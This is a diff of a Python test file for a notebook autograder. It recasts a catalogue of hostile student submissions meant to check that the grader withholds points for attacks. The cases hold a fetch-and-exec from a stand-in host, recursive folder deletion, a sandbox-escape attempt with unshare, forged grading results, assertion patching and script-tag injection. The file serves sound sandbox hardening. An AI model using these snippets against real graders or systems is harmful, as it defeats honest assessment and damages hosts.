@@ -1,8 +1,11 @@
 """What students hand in that is not simply right or wrong, by accident or not, with its due.
 
-Every case is a class member of its own in ``test_classroom_hostile``. Most hold right answers to
-all exercises but ``descend``, the last one, where the attack is; so an attack that works is seen in
-the mark of ``descend``, and one that harms the student's own honest work in the other marks.
+Every case is a class member of its own in ``tests/classroom/test_hostile.py``. Most hold right
+answers to all exercises but the last one, where the attack is; so an attack that works is seen in
+the mark of the last, and one that harms the student's own honest work in the other marks.
+
+An attack is on exercises that do without torch, unless it is on torch itself or on what is kept
+from students of a lesson: to import torch takes longer than most attacks.
 """
 
 import textwrap
@@ -12,13 +15,17 @@ from dataclasses import dataclass
 import nbformat
 from nbformat import NotebookNode
 
-from tests.helpers.student_notebooks import LESSON, answered, cell_of, solutions_of
+from tests.helpers import own_exercises
+from tests.helpers.student_notebooks import LESSON as OF_TORCH
+from tests.helpers.student_notebooks import answered, cell_of, solutions_of
 
-SOLUTIONS = solutions_of()
-ALL = {name: True for name in SOLUTIONS}
-NONE = {name: False for name in SOLUTIONS}
-REST = ALL | {"descend": False}  # honest work is paid, the attack is not
-WRONG = "def descend(features, labels, num_classes, learning_rate, num_steps):\n    return None\n"
+PLAIN = own_exercises.LESSON
+SOLUTIONS = {PLAIN: own_exercises.SOLUTIONS, OF_TORCH: solutions_of()}
+LAST = {PLAIN: "total", OF_TORCH: "descend"}  # the exercise with the attack, by lesson
+TOTAL = own_exercises.SOLUTIONS["total"]
+# What is due: all points, none, or those of honest work only, not of the attack.
+ALL, NONE, REST = "all", "none", "rest"
+WRONG = own_exercises.SOLUTIONS | {"total": "def total(x):\n    return None\n"}
 
 
 @dataclass(frozen=True)
@@ -27,30 +34,43 @@ class Case:
 
     name: str
     make: Callable[[NotebookNode, Mapping[str, str]], NotebookNode | bytes]
-    due: Mapping[str, bool]
+    due: str
     line: str = ""
-    file: str = f"{LESSON}.ipynb"
+    file: str | None = None  # as the lesson is called, if None
     needs_bubblewrap: bool = False
+    lesson: str = PLAIN
+
+    def earns(self, exercise: str) -> bool:
+        """Whether the points of an exercise are due."""
+        return self.due == ALL or (self.due == REST and exercise != LAST[self.lesson])
 
 
-def answers(name: str, code: str, due: Mapping[str, bool], line: str = "", **more: bool) -> Case:
-    """All solved but ``descend``, where ``code`` stands; ``{paths}`` in it are a teacher's."""
+def answers(
+    name: str,
+    code: str,
+    due: str,
+    line: str = "",
+    *,
+    lesson: str = PLAIN,
+    needs_bubblewrap: bool = False,
+) -> Case:
+    """All solved but the last, where ``code`` stands; ``<paths>`` in it are a teacher's."""
 
     def make(original: NotebookNode, paths: Mapping[str, str]) -> NotebookNode:
         text = textwrap.dedent(code)
         for key, path in paths.items():
             text = text.replace(f"<{key}>", path)
-        return answered(original, SOLUTIONS | {"descend": text})
+        return answered(original, SOLUTIONS[lesson] | {LAST[lesson]: text})
 
-    return Case(name, make, due, line, **more)
+    return Case(name, make, due, line, needs_bubblewrap=needs_bubblewrap, lesson=lesson)
 
 
 def edited(
     name: str,
     edit: Callable[[NotebookNode], None],
-    due: Mapping[str, bool] = ALL,
+    due: str = ALL,
     line: str = "",
-    given: Mapping[str, str] = SOLUTIONS,
+    given: Mapping[str, str] = SOLUTIONS[PLAIN],
 ) -> Case:
     """Answers ``given``, then the notebook is edited."""
     return Case(name, lambda original, _: answered(original, given, edit), due, line)
@@ -72,20 +92,20 @@ def metadata_is_gone(notebook: NotebookNode) -> None:
 
 
 def test_is_renamed(notebook: NotebookNode) -> None:
-    cell_of(notebook, "test_descend").metadata.nbgrader.grade_id = "test_something"
+    cell_of(notebook, "test_total").metadata.nbgrader.grade_id = "test_something"
 
 
 def answer_is_renamed(notebook: NotebookNode) -> None:
-    cell_of(notebook, "descend").metadata.nbgrader.grade_id = "my_answer"
+    cell_of(notebook, "total").metadata.nbgrader.grade_id = "my_answer"
 
 
 def test_is_doubled(notebook: NotebookNode) -> None:
-    copy = nbformat.from_dict(cell_of(notebook, "test_descend"))
+    copy = nbformat.from_dict(cell_of(notebook, "test_total"))
     notebook.cells.append(nbformat.from_dict(copy | {"id": "copy"}))
 
 
 def answer_is_doubled(notebook: NotebookNode) -> None:
-    place = notebook.cells.index(cell_of(notebook, "descend"))
+    place = notebook.cells.index(cell_of(notebook, "total"))
     first = nbformat.from_dict(notebook.cells[place] | {"id": "first-try", "source": "1 / 0"})
     notebook.cells.insert(place, first)
 
@@ -98,7 +118,7 @@ def points_are_raised(notebook: NotebookNode) -> None:
 
 
 def points_are_no_number(notebook: NotebookNode) -> None:
-    cell_of(notebook, "test_descend").metadata.nbgrader = "all the points"
+    cell_of(notebook, "test_total").metadata.nbgrader = "all the points"
 
 
 def cells_are_in_reverse(notebook: NotebookNode) -> None:
@@ -106,14 +126,11 @@ def cells_are_in_reverse(notebook: NotebookNode) -> None:
 
 
 def own_helper_is_used(notebook: NotebookNode) -> None:
-    place = notebook.cells.index(cell_of(notebook, "descend"))
-    helper = nbformat.v4.new_code_cell("def down(x, rate, slope):\n    return x - rate * slope")
+    place = notebook.cells.index(cell_of(notebook, "total"))
+    helper = nbformat.v4.new_code_cell("def added(x):\n    return math.fsum(x)")
     notebook.cells.insert(place, helper)
     answer = notebook.cells[place + 1]
-    answer.source = answer.source.replace(
-        "W = W - learning_rate * features.T @ gradient",
-        "W = down(W, learning_rate, features.T @ gradient)",
-    )
+    answer.source = answer.source.replace("math.fsum(x)", "added(x)")
 
 
 SEARCH = """
@@ -171,9 +188,9 @@ FORGED = """
     lines = ""
     for seed in range(2):
         found = {"status": "right", "message": "Yes.", "name": None}
-        lines += json.dumps({"observed": "descend", "seed": seed, "found": found}) + "\\n"
+        lines += json.dumps({"observed": "total", "seed": seed, "found": found}) + "\\n"
     lines += json.dumps({"done": True}) + "\\n"
-    def descend(*given):
+    def total(*given):
         return None
     for number in range(3, 20):
         try:
@@ -210,12 +227,12 @@ NONSENSE = (
 TELLS_THE_SEED = """
     import gc
     job = next(o for o in gc.get_objects() if type(o) is dict and 'memory_mb' in o)
-    def descend(*given):
+    def total(*given):
         raise ValueError(f"seeds {job['seeds']} \\ud800 \\x1b[31m <script>alert(1)</script>")
 """
-LOOP = "def descend(*given):\n    while True:\n        pass\n"
+LOOP = "def total(*given):\n    while True:\n        pass\n"
 SWALLOWS = """
-    def descend(*given):
+    def total(*given):
         while True:
             try:
                 while True:
@@ -224,35 +241,40 @@ SWALLOWS = """
                 pass
 """
 CASES = (
-    Case("correct", lambda original, _: answered(original, SOLUTIONS), ALL),
+    Case(
+        "correct",
+        lambda original, _: answered(original, SOLUTIONS[OF_TORCH]),
+        ALL,
+        lesson=OF_TORCH,
+    ),
     Case("blank", lambda original, _: original, NONE),
-    answers("partly right", "def descend(*given):\n    return 3", REST),
-    edited("tests edited", tests_say_yes, REST, "changed", SOLUTIONS | {"descend": WRONG}),
-    edited("tests deleted", tests_are_gone, REST, "missing", SOLUTIONS | {"descend": WRONG}),
+    answers("partly right", "def descend(*given):\n    return 3", REST, lesson=OF_TORCH),
+    edited("tests edited", tests_say_yes, REST, "changed", WRONG),
+    edited("tests deleted", tests_are_gone, REST, "missing", WRONG),
     edited("tests deleted, all right", tests_are_gone, ALL, "missing"),
     edited("metadata deleted", metadata_is_gone, ALL, "without its name"),
     edited("test renamed", test_is_renamed, ALL, "missing"),
     edited("answer renamed", answer_is_renamed, ALL, "without its name"),
     edited("test doubled", test_is_doubled, ALL, "more than once"),
     edited("answer doubled", answer_is_doubled, ALL, "more than once"),
-    edited("points raised", points_are_raised, REST, "points", SOLUTIONS | {"descend": WRONG}),
+    edited("points raised", points_are_raised, REST, "points", WRONG),
     edited("points no number", points_are_no_number),
     edited("cells in reverse", cells_are_in_reverse, ALL),
     edited("own helper", own_helper_is_used),
     answers("loop in a function", LOOP, REST, "took longer"),
-    answers("loop at the top", f"{SOLUTIONS['descend']}\nwhile True:\n    pass", ALL, "longer"),
+    answers("loop at the top", f"{TOTAL}\nwhile True:\n    pass", ALL, "longer"),
     answers("loop that swallows interrupts", SWALLOWS, REST, "did not stop when interrupted"),
     answers(
         "loop at the top that swallows",
-        textwrap.dedent(SWALLOWS) + "descend()",
+        textwrap.dedent(SWALLOWS) + "total()",
         REST,
         "did not stop when interrupted",
     ),
-    answers("sys.exit in a function", "def descend(*given):\n    raise SystemExit", REST, "exit"),
+    answers("sys.exit in a function", "def total(*given):\n    raise SystemExit", REST, "exit"),
     answers("sys.exit at the top", "import sys\nsys.exit()", REST, "SystemExit"),
     answers(
         "os._exit in a function",
-        "def descend(*given):\n    os._exit(0)\nimport os",
+        "def total(*given):\n    os._exit(0)\nimport os",
         REST,
         "ended Python",
     ),
@@ -263,26 +285,29 @@ CASES = (
         REST,
         needs_bubblewrap=True,
     ),
-    answers("huge output", f"print('a' * 30_000_000)\n{SOLUTIONS['descend']}", ALL, "too much"),
+    answers("huge output", f"print('a' * 30_000_000)\n{TOTAL}", ALL, "too much"),
     answers(
         "huge raw output",
-        f"import os\nfor n in (1, 2):\n    os.write(n, b'a' * 10**7)\n{SOLUTIONS['descend']}",
+        f"import os\nfor n in (1, 2):\n    os.write(n, b'a' * 10**7)\n{TOTAL}",
         ALL,
     ),
-    answers("huge memory", f"held = torch.zeros(10**11)\n{SOLUTIONS['descend']}", REST, "memory"),
+    answers(
+        "huge memory",
+        f"held = torch.zeros(10**11)\n{SOLUTIONS[OF_TORCH]['descend']}",
+        REST,
+        "memory",
+        lesson=OF_TORCH,
+    ),
     answers(
         "memory in steps",
-        "held = []\nwhile True:\n    held.append(bytearray(10**8))",
+        "held = []\nwhile True:\n    held.append(bytes(10**8))",
         REST,
         "MemoryError",
     ),
-    answers(
-        "a warning", "import warnings\nwarnings.warn('harmless')\n" + SOLUTIONS["descend"], ALL
-    ),
+    answers("a warning", "import warnings\nwarnings.warn('harmless')\n" + TOTAL, ALL),
     answers(
         "a warning in a function",
-        SOLUTIONS["descend"].replace("    W =", "    warnings.warn('x')\n    W =", 1)
-        + "\nimport warnings",
+        TOTAL.replace("    return", "    warnings.warn('x')\n    return") + "\nimport warnings",
         ALL,
     ),
     answers(
@@ -298,22 +323,22 @@ CASES = (
     answers(
         "starts many processes",
         "import subprocess\n"
-        "held = [subprocess.Popen(['sleep', '600']) for _ in range(200)]\n" + SOLUTIONS["descend"],
+        "held = [subprocess.Popen(['sleep', '600']) for _ in range(200)]\n" + TOTAL,
         ALL,
         needs_bubblewrap=True,
     ),
     answers(
         "deletes its folder",
-        "import os, shutil\nshutil.rmtree('.', ignore_errors=True)\n" + SOLUTIONS["descend"],
+        "import os, shutil\nshutil.rmtree('.', ignore_errors=True)\n" + TOTAL,
         ALL,
     ),
     answers(
         "rewrites what it imports",
-        textwrap.dedent(REWRITES) + SOLUTIONS["descend"],
+        textwrap.dedent(REWRITES) + TOTAL,
         ALL,
         needs_bubblewrap=True,
     ),
-    answers("looks for solutions", SEARCH, REST, needs_bubblewrap=True),
+    answers("looks for solutions", SEARCH, REST, lesson=OF_TORCH, needs_bubblewrap=True),
     answers(
         "imports the answers",
         """
@@ -322,6 +347,7 @@ CASES = (
         """,
         REST,
         "No module named",
+        lesson=OF_TORCH,
     ),
     answers(
         "writes to the gradebook",
@@ -346,12 +372,12 @@ CASES = (
                 return None
         get_ipython().ast_transformers.append(NoAssert())
         get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"])
-        def descend(*given):
+        def total(*given):
             return None
         """,
         REST,
     ),
-    answers("patches checks and torch", PATCHES, REST),
+    answers("patches checks and torch", PATCHES, REST, lesson=OF_TORCH),
     answers("forges the results", FORGED, REST),
     answers("keeps saying something", HEARTBEAT, REST, "did not stop when interrupted"),
     answers("says nonsense", NONSENSE, REST, "wrote over the results"),
@@ -362,15 +388,14 @@ CASES = (
     ),
     answers(
         "mounts a room of its own",
-        "import subprocess\nsubprocess.run(['unshare', '-Urm', 'true'], check=True)\n"
-        + SOLUTIONS["descend"],
+        "import subprocess\nsubprocess.run(['unshare', '-Urm', 'true'], check=True)\n" + TOTAL,
         REST,
         "CalledProcessError",
         needs_bubblewrap=True,
     ),
     answers(
         "writes into the room's own folders",
-        "open('/dev/x', 'w').write('x')\n" + SOLUTIONS["descend"],
+        "open('/dev/x', 'w').write('x')\n" + TOTAL,
         REST,
         "Read-only",
         needs_bubblewrap=True,
@@ -390,12 +415,13 @@ CASES = (
             return Yes(), Yes()
         """,
         REST,
+        lesson=OF_TORCH,
     ),
     answers(
         "needs the network",
         """
         import urllib.request
-        exec(urllib.request.urlopen("http://192.0.2.1/descend.py", timeout=2).read())
+        exec(urllib.request.urlopen("http://192.0.2.1/total.py", timeout=2).read())
         """,
         REST,
         "URLError",
@@ -405,12 +431,12 @@ CASES = (
         "leaves threads and processes",
         "import subprocess, threading, time\n"
         "subprocess.Popen(['sleep', '600'])\n"
-        "threading.Thread(target=time.sleep, args=(600,)).start()\n" + SOLUTIONS["descend"],
+        "threading.Thread(target=time.sleep, args=(600,)).start()\n" + TOTAL,
         ALL,
     ),
     Case(
         "wrong name",
-        lambda original, _: answered(original, SOLUTIONS),
+        lambda original, _: answered(original, SOLUTIONS[PLAIN]),
         ALL,
         "handed in as",
         file="homework final (2).ipynb",
